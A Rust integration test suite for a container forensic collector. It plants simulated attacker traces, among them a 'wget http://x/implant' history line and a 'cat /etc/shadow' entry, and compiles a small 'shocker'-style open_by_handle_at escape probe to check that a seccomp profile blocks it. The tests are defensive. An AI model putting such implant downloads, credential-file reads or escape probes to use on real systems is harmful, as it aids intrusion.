//! The static collector inside real Docker containers built locally (no registry): a
//! busybox image as root, the same as uid 1000 with a read-only root, and a
//! distroless-like image with no shell. The archive leaves through `docker exec ...
//! --output -` and must verify and hold the files planted in the container.
//!
//! Needs `CAIRN_MUSL_BIN` (the static binary; `tests/run-all.sh` builds it) and a
//! Docker daemon. Under CI (`CI=true`) their absence fails the test; locally it skips loudly.

mod common;
use common::docker::*;
use common::*;
use std::process::{Command, Stdio};

#[test]
fn busybox_as_root_and_as_uid_1000_read_only() {
    let Some(bin) = setup() else { return };
    let img = busybox_image();
    let dir = tempfile::tempdir().unwrap();
    let vol = format!("{}:/opt/cairn/cairn-collector:ro", bin.display());

    let name = format!("cairn-bb-root-{}", std::process::id());
    ok(&[
        "run",
        "-d",
        "--network",
        "none",
        "--name",
        &name,
        "-v",
        &vol,
        img,
        "sleep",
        "3600",
    ]);
    let _c = Container(name.clone());
    ok(&["exec", &name, "sh", "-c", "echo 'wget http://x/implant' >> /root/.bash_history; echo 'app started' > /var/log/app.log; echo payload > /tmp/dropped.sh"]);
    let out = collect_via_exec(&name, "/opt/cairn/cairn-collector", None, dir.path());
    let a = Archive::read(&out);
    assert_eq!(
        a.text("files/root/.bash_history"),
        "image-history\nwget http://x/implant\n"
    );
    assert_eq!(a.text("files/var/log/app.log"), "app started\n");
    assert_eq!(a.text("files/tmp/dropped.sh"), "payload\n");
    assert_eq!(a.summary()["identity"]["docker"], true);
    assert_eq!(a.summary()["live"], true);

    let name = format!("cairn-bb-1000-{}", std::process::id());
    ok(&[
        "run",
        "-d",
        "--network",
        "none",
        "--user",
        "1000",
        "--read-only",
        "--tmpfs",
        "/tmp",
        "--name",
        &name,
        "-v",
        &vol,
        img,
        "sleep",
        "3600",
    ]);
    let _c2 = Container(name.clone());
    ok(&[
        "exec",
        &name,
        "sh",
        "-c",
        "echo 'tmp evidence' > /tmp/note.txt && ! touch /var/log/new.log 2>/dev/null",
    ]);
    let out = collect_via_exec(&name, "/opt/cairn/cairn-collector", None, dir.path());
    let a = Archive::read(&out);
    assert_eq!(a.text("files/home/app/.ash_history"), "cat /etc/shadow\n");
    assert_eq!(a.text("files/tmp/note.txt"), "tmp evidence\n");
    assert_eq!(a.text("files/var/log/image.log"), "baked log line\n");
    // uid 1000 cannot enter /root: recorded as a denial, not a failure.
    assert!(
        a.log()
            .iter()
            .any(|l| l["event"] == "denied" && l["path"] == "/root"),
        "{:?}",
        a.log()
    );
}

#[test]
fn distroless_like_image_without_a_shell() {
    let Some(bin) = setup() else { return };
    let dir = tempfile::tempdir().unwrap();
    let ctx = dir.path().join("ctx");
    for d in ["etc", "tmp", "var/log/app"] {
        std::fs::create_dir_all(ctx.join(d)).unwrap();
    }
    std::fs::copy(&bin, ctx.join("cairn-collector")).unwrap();
    std::fs::write(
        ctx.join("etc/passwd"),
        "root:x:0:0:root:/root:/sbin/nologin\nnonroot:x:65532:65532::/home/nonroot:/sbin/nologin\n",
    )
    .unwrap();
    std::fs::write(ctx.join("var/log/app/server.log"), "distroless log line\n").unwrap();
    std::fs::write(
        ctx.join("Dockerfile"),
        "FROM scratch\nCOPY . /\nUSER 65532\nENTRYPOINT [\"/cairn-collector\"]\n",
    )
    .unwrap();
    let img = "cairn-test-distroless:1";
    let st = Command::new("docker")
        .args(["build", "-q", "-t", img, ctx.to_str().unwrap()])
        .env("DOCKER_BUILDKIT", "0")
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(st.success(), "docker build of the distroless-like image");
    let name = format!("cairn-distroless-{}", std::process::id());
    // The image has nothing but the collector; `verify -` blocking on the open stdin
    // stands in for the application process so the container stays up for exec.
    ok(&[
        "run",
        "-d",
        "-i",
        "--network",
        "none",
        "--name",
        &name,
        img,
        "verify",
        "-",
    ]);
    let _c = Container(name.clone());
    let sh = docker(&["exec", &name, "sh", "-c", "true"]);
    assert!(!sh.status.success(), "the image must have no shell");
    let out = collect_via_exec(&name, "/cairn-collector", None, dir.path());
    let a = Archive::read(&out);
    assert_eq!(
        a.text("files/var/log/app/server.log"),
        "distroless log line\n"
    );
    assert!(a.text("files/etc/passwd").contains("nonroot"));
    assert_eq!(a.summary()["collector"]["uid"], 65532);
}

/// The static aarch64 collector: `CAIRN_MUSL_BIN_AARCH64`, or where
/// scripts/build-collectors.sh leaves it; `None` (a loud skip, a failure under CI)
/// without it.
fn aarch64_collector() -> Option<std::path::PathBuf> {
    let p = std::env::var_os("CAIRN_MUSL_BIN_AARCH64")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| {
            std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../target/aarch64-unknown-linux-musl/release/cairn-collector")
        });
    if p.is_file() {
        Some(p)
    } else {
        require("the static aarch64 collector (scripts/build-collectors.sh)");
        None
    }
}

#[test]
fn the_collector_image_holds_only_the_collector_for_both_architectures_and_loads_into_docker_and_containerd(
) {
    let Some(bin) = setup() else { return };
    let Some(arm) = aarch64_collector() else {
        return;
    };
    let tag = format!("cairn-collector:test-{}", std::process::id());
    let t = tempfile::tempdir().unwrap();
    let saved = t.path().join("image.tar");
    let oci = t.path().join("image.oci.tar");
    let script = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../scripts/build-image.sh");
    let o = Command::new("bash")
        .arg(&script)
        .args([
            "--bin",
            bin.to_str().unwrap(),
            "--bin",
            arm.to_str().unwrap(),
        ])
        .args(["--tag", &tag, "--containerd", "--save"])
        .arg(&saved)
        .arg("--oci")
        .arg(&oci)
        .output()
        .unwrap();
    let reference = format!("docker.io/library/{tag}");
    let (tag2, reference2) = (tag.clone(), reference.clone());
    let cleanup = move || {
        let (tag, reference) = (tag2, reference2);
        for t in [tag.clone(), format!("{tag}-amd64"), format!("{tag}-arm64")] {
            let _ = docker(&["rmi", "-f", &t]);
        }
        let _ = Command::new("ctr")
            .args(["-n", "k8s.io", "images", "rm", &reference])
            .output();
    };
    let _cleanup = Defer(Some(Box::new(cleanup)));
    assert!(
        o.status.success(),
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    let sha = |p: &std::path::Path| {
        use sha2::Digest;
        hex::encode(sha2::Sha256::digest(std::fs::read(p).unwrap()))
    };
    // One layer, the collector's sha256 as a label, the collector as entrypoint; the
    // arm64 image runs its own collector (through qemu binfmt here).
    for (image, arch, bin) in [
        (tag.clone(), "amd64", &bin),
        (format!("{tag}-arm64"), "arm64", &arm),
    ] {
        let f = |fmt: &str| ok(&["image", "inspect", "-f", fmt, &image]);
        assert_eq!(f("{{len .RootFS.Layers}}"), "1", "{image}");
        assert_eq!(f("{{.Architecture}}"), arch, "{image}");
        assert_eq!(
            f("{{index .Config.Labels \"io.cairn.collector.sha256\"}}"),
            sha(bin),
            "{image}"
        );
        let version = ok(&[
            "run",
            "--rm",
            "--network",
            "none",
            "--platform",
            &format!("linux/{arch}"),
            &image,
            "--version",
        ]);
        assert!(version.starts_with("cairn-collector "), "{version}");
    }
    // containerd holds one name for both architectures, as a registry would.
    let listed = Command::new("ctr")
        .args(["-n", "k8s.io", "images", "ls"])
        .output()
        .unwrap();
    let listed = String::from_utf8_lossy(&listed.stdout).into_owned();
    let line = listed
        .lines()
        .find(|l| l.starts_with(&format!("{reference} ")))
        .unwrap_or_else(|| panic!("not in containerd:\n{listed}"));
    assert!(line.contains("linux/amd64,linux/arm64"), "{line}");
    let o = Command::new("ctr")
        .args([
            "-n",
            "k8s.io",
            "run",
            "--rm",
            "--platform",
            "linux/arm64",
            &reference,
        ])
        .arg(format!("cairn-image-test-{}", std::process::id()))
        .args(["/cairn-collector", "--version"])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&o.stdout).starts_with("cairn-collector "),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    for f in [&saved, &oci] {
        let len = std::fs::metadata(f).map(|m| m.len()).unwrap_or(0);
        assert!(len > 1_000_000, "{} is {len} bytes", f.display());
    }
}

/// Runs a closure on drop (a test's cleanup, also when an assertion fails).
struct Defer(Option<Box<dyn FnOnce()>>);
impl Drop for Defer {
    fn drop(&mut self) {
        if let Some(f) = self.0.take() {
            f();
        }
    }
}

/// What a daemon that adopted an existing `docker0` prints: no Gateway in IPAM.
const BRIDGE_WITHOUT_GATEWAY: &str = r#"[{"Name":"bridge","Id":"fd13f361313f3202b91fed8adea297f911a78adb6d4036101c408168908cdc2e","Driver":"bridge","IPAM":{"Driver":"default","Options":null,"Config":[{"Subnet":"172.17.0.0/16"}]},"Options":{"com.docker.network.bridge.default_bridge":"true","com.docker.network.bridge.name":"docker0","com.docker.network.driver.mtu":"1500"}}]"#;

#[test]
fn inspect_output_without_a_gateway_names_the_bridge_interface_instead() {
    let f = bridge_facts(BRIDGE_WITHOUT_GATEWAY).unwrap();
    assert_eq!(
        f,
        BridgeFacts {
            gateway: None,
            interface: "docker0".into()
        }
    );
    let with = BRIDGE_WITHOUT_GATEWAY.replace(
        r#"{"Subnet":"172.17.0.0/16"}"#,
        r#"{"Subnet":"172.17.0.0/16","Gateway":"172.17.0.1"}"#,
    );
    assert_eq!(
        bridge_facts(&with).unwrap().gateway,
        Some("172.17.0.1".parse().unwrap())
    );
    // A user-defined network has no bridge-name option: its interface is br-ID[..12].
    let user = r#"[{"Name":"n","Id":"05a6112debf3aa00","Driver":"bridge","IPAM":{"Config":[{"Subnet":"10.213.7.0/24"}]},"Options":{}}]"#;
    assert_eq!(bridge_facts(user).unwrap().interface, "br-05a6112debf3");
    // An IPv6 gateway is no address for an IPv4 URL.
    let v6 = user.replace(
        r#"{"Subnet":"10.213.7.0/24"}"#,
        r#"{"Subnet":"fd00::/64","Gateway":"fd00::1"}"#,
    );
    assert_eq!(bridge_facts(&v6).unwrap().gateway, None);
    assert!(bridge_facts(r#"[{"Driver":"host"}]"#).is_err());
    assert!(bridge_facts("").is_err());
    // The last resort, a container's own routing table: 172.17.0.1 little-endian.
    let route =
        "Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\t\tMTU\tWindow\tIRTT\n\
                 eth0\t000011AC\t00000000\t0001\t0\t0\t0\t0000FFFF\t0\t0\t0\n\
                 eth0\t00000000\t010011AC\t0003\t0\t0\t0\t00000000\t0\t0\t0\n";
    assert_eq!(default_route(route), Some("172.17.0.1".parse().unwrap()));
    assert_eq!(default_route("Iface\tDestination\tGateway\n"), None);
}

#[test]
fn containers_reach_the_host_on_a_network_whose_inspect_has_no_gateway() {
    let Some(_) = setup() else { return };
    let img = busybox_image();
    // `--subnet` alone: Docker records no Gateway for the network, as for a default
    // bridge that adopted an existing docker0. Try subnets until one is free.
    let name = format!("cairn-nogw-{}", std::process::id());
    let _ = docker(&["network", "rm", &name]);
    let created = (0..32).find(|i| {
        let subnet = format!("10.213.{}.0/24", (std::process::id() as usize + i) % 250);
        docker(&["network", "create", "--subnet", &subnet, &name])
            .status
            .success()
    });
    assert!(created.is_some(), "no free 10.213.x.0/24 subnet for {name}");
    let _net = Network(name.clone());
    let config = ok(&["network", "inspect", &name, "-f", "{{json .IPAM.Config}}"]);
    assert!(!config.contains("Gateway"), "{config}");
    let host = host_address(&name);
    assert!(host.parse::<std::net::Ipv4Addr>().is_ok(), "{host:?}");
    let port = serve(b"reached the host".to_vec());
    let url = format!("http://{host}:{port}/x");
    // busybox-static's `wget -T` crashes; its `timeout` applet bounds the wait instead.
    let got = docker(&[
        "run",
        "--rm",
        "--network",
        &name,
        img,
        "timeout",
        "20",
        "wget",
        "-q",
        "-O",
        "-",
        &url,
    ]);
    assert_eq!(
        String::from_utf8_lossy(&got.stdout),
        "reached the host",
        "{url}: {}",
        String::from_utf8_lossy(&got.stderr)
    );
    // The default bridge is found the same way, whatever this daemon recorded for it.
    assert!(bridge_gateway().parse::<std::net::Ipv4Addr>().is_ok());
}

/// `deploy/seccomp/cairn-node.json`, the profile for the node route's pods: with
/// CAP_DAC_READ_SEARCH, Docker's default profile lets `open_by_handle_at` through
/// (with a guessed handle it reaches any file of the filesystem, outside the mount:
/// "shocker"); this one refuses it with EPERM, and the collector still collects under it.
#[test]
fn the_node_collectors_seccomp_profile_refuses_file_handles_and_the_collector_still_works() {
    let Some(bin) = setup() else { return };
    let t = tempfile::tempdir().unwrap();
    let src = t.path().join("h.c");
    std::fs::write(
        &src,
        "#define _GNU_SOURCE\n#include <fcntl.h>\n#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include <errno.h>\nint main(void) { int fd = open(\"/\", O_RDONLY); struct file_handle *h = malloc(sizeof(*h) + 8); h->handle_bytes = 8; h->handle_type = 1; memset(h->f_handle, 0, 8); h->f_handle[0] = 2; if (open_by_handle_at(fd, h, O_RDONLY) < 0) { printf(\"errno %d\\n\", errno); return 1; } printf(\"opened\\n\"); return 0; }\n",
    )
    .unwrap();
    let prog = t.path().join("h");
    let o = Command::new("musl-gcc")
        .args(["-static", "-o"])
        .arg(&prog)
        .arg(&src)
        .output()
        .expect("musl-gcc");
    cairn_testkit::env::succeeded(&o);
    let profile = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../deploy/seccomp/cairn-node.json")
        .canonicalize()
        .unwrap();
    let seccomp = format!("seccomp={}", profile.display());
    let mount = format!("{}:/h:ro", prog.display());
    let run = |opts: &[&str]| {
        let mut args = vec![
            "run",
            "--rm",
            "--network",
            "none",
            "--cap-drop",
            "ALL",
            "--cap-add",
            "DAC_READ_SEARCH",
            "-v",
            &mount,
        ];
        args.extend_from_slice(opts);
        args.extend([busybox_image(), "/h"]);
        docker(&args)
    };
    // EPERM (1) is seccomp's refusal; anything else means the kernel was asked.
    let default = run(&[]);
    let default_said = String::from_utf8_lossy(&default.stdout).trim().to_owned();
    assert!(
        !default_said.is_empty() && default_said != "errno 1",
        "Docker's default profile refused file handles itself: {default_said} {}",
        String::from_utf8_lossy(&default.stderr)
    );
    let confined = run(&["--security-opt", &seccomp]);
    assert_eq!(
        String::from_utf8_lossy(&confined.stdout).trim(),
        "errno 1",
        "{}",
        String::from_utf8_lossy(&confined.stderr)
    );
    let collector = format!("{}:/c:ro", bin.display());
    let o = docker(&[
        "run",
        "--rm",
        "--network",
        "none",
        "--cap-drop",
        "ALL",
        "--cap-add",
        "DAC_READ_SEARCH",
        "--security-opt",
        &seccomp,
        "-v",
        &collector,
        busybox_image(),
        "/c",
        "collect",
        "--artifacts",
        "files/system/etc",
        "--output",
        "-",
        "--progress",
        "none",
    ]);
    assert!(
        o.status.success() && o.stdout.len() > 1000,
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
}

/// A process of the target container that changed its root (chroot) sees other files
/// than the container's lowest PID: the collector, beside the target in its PID
/// namespace as an ephemeral container or sidecar is, says so in its collection log.
#[test]
fn a_target_whose_processes_show_two_roots_is_collected_with_a_warning_naming_them() {
    let Some(bin) = setup() else { return };
    let img = busybox_image();
    let name = format!("cairn-chroot-{}", std::process::id());
    ok(&[
        "run",
        "-d",
        "--network",
        "none",
        "--name",
        &name,
        img,
        "sleep",
        "3600",
    ]);
    let _c = Container(name.clone());
    ok(&[
        "exec",
        "-d",
        &name,
        "sh",
        "-c",
        "mkdir -p /tmp/jail/bin && cp /bin/busybox /tmp/jail/bin/ && exec chroot /tmp/jail /bin/busybox sleep 3600",
    ]);
    let id = ok(&["inspect", "-f", "{{.Id}}", &name]).trim().to_owned();
    let vol = format!("{}:/cairn-collector:ro", bin.display());
    let pid_ns = format!("--pid=container:{name}");
    let mut out = None;
    for _ in 0..50 {
        let o = Command::new("docker")
            .args([
                "run",
                "--rm",
                "--network",
                "none",
                &pid_ns,
                "--cap-add",
                "SYS_PTRACE",
                "-v",
                &vol,
            ])
            .args([
                img,
                "/cairn-collector",
                "collect",
                "--target-pid",
                "auto",
                "--target-id",
                &id,
            ])
            .args(["--artifacts", "live/system", "--output", "-"])
            .stderr(Stdio::piped())
            .output()
            .unwrap();
        cairn_testkit::env::succeeded(&o);
        let err = String::from_utf8_lossy(&o.stderr).into_owned();
        // The chrooted process may not be up yet.
        if err.contains("roots") {
            out = Some((o.stdout, err));
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let (archive, err) = out.expect("no warning about the chrooted process");
    assert!(err.contains("show 2 roots"), "{err}");
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("a.tar.zst");
    std::fs::write(&p, archive).unwrap();
    let a = Archive::read(&p);
    let warned = a
        .log()
        .into_iter()
        .find(|l| l["event"] == "target")
        .expect("the collection log records it");
    let msg = warned["message"].as_str().unwrap();
    assert!(msg.contains("/tmp/jail"), "{msg}");
    assert_eq!(warned["level"], "warn");
}
